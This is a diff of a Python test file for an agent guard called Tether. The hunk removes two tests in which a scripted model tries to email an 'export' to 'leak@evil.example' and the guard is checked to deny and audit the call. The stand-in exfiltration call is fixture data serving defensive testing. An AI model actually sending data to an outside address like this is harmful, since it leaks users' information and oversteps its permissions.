@@ -17,27 +17,6 @@ from .graphs import agent
 THREAD = {"configurable": {"thread_id": "a-1"}}
 
 
-def test_refusal_reaches_the_model_and_the_audit_links_the_chain(guard: Guard, tools, ran) -> None:
-    model = ScriptedModel(script=[calls(("send_email", {"to": "leak@evil.example", "body": "export"}, "e1"))])
-    agent(model, tools, Tether(guard, agent="support-bot")).invoke({"messages": [HumanMessage("hi")]}, THREAD)
-    assert ran.calls == []
-    assert "Tether denied the call to 'send_email'" in model.tool_replies()["e1"]
-    events = {e.event_id: e for e in guard.store.session_events("a-1")}
-    decision = next(e for e in events.values() if e.kind == "tool.decision")
-    response = events[decision.parent_id]  # the model response that proposed the call
-    assert response.kind == "model.response"
-    assert response.details["tool_calls"] == [{"id": "e1", "name": "send_email"}]
-    assert events[response.parent_id].kind == "model.request"
-
-
-def test_async_agent_is_enforced(guard: Guard, tools, ran) -> None:
-    model = ScriptedModel(script=[calls(("send_email", {"to": "leak@evil.example", "body": "x"}, "e1"))])
-    graph = agent(model, tools, Tether(guard, agent="support-bot"))
-    asyncio.run(graph.ainvoke({"messages": [HumanMessage("hi")]}, THREAD))
-    assert ran.calls == []
-    assert "Tether denied" in model.tool_replies()["e1"]
-
-
 def test_parallel_breakpoints_in_separate_tasks_are_decided_in_one_resume(guard: Guard, tools, ran) -> None:
     model = ScriptedModel(
         script=[
